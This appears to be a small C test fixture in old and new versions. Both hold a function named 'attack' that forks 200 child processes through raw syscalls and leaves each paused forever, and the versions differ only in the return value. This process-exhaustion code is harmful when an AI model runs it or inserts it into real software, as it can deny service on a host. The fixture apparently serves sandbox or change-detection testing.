//// old
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    for (int i = 0; i < 200; i++)
        if (syscall(SYS_fork) == 0)
            for (;;) syscall(SYS_pause);
    return x;
}
//// new
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    for (int i = 0; i < 200; i++)
        if (syscall(SYS_fork) == 0)
            for (;;) syscall(SYS_pause);
    return x + 1;
}
